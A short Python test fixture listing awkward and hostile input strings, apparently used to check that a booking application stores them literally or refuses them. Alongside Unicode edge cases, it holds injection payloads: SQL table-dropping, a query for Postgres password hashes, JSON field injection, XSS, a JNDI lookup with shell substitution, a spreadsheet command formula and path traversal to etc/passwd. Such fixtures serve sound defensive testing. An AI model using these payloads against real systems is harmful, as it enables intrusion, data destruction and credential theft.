"""Texts that some program, somewhere, would have carried out: stored as typed here, or refused."""

TEXTS = {
    "SQL": "'; DROP TABLE desk.booking; --",
    "dollar quotes": "$$ || (SELECT rolpassword FROM pg_authid) || $$",
    "JSON": '", "status": "confirmed", "x": "',
    "HTML": "<img src=x onerror=alert(1)><b>bold</b>&amp;<script>x</script>",
    "an entity": "&lt;b&gt; &#8377; &nbsp;",
    "Python's formats": "{0} {x.__class__.__mro__} %s %(x)s %n %1 %L1",
    "a lookup": "${jndi:ldap://example.invalid/a} $(id) `id`",
    "a formula": "=HYPERLINK(1)+cmd|' /C calc'!A0",
    "a path": "..\\..\\desk\\..%2f..%2fetc/passwd",
    "right to left": "\u202egnp.exe\u202c \u200f\u05e9\u05dc\u05d5\u05dd",
    "no width": "Ra\u200bvi\u200d\u2060 Desh\u00admukh",
    "accents on accents": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0335l\u0321g\u0321o",
    "a mark of the order of bytes": "\ufeffRavi",
    "ampersands": "A&B && C &Save",
}
LONG = "क x" * 3400  # more than ten thousand characters
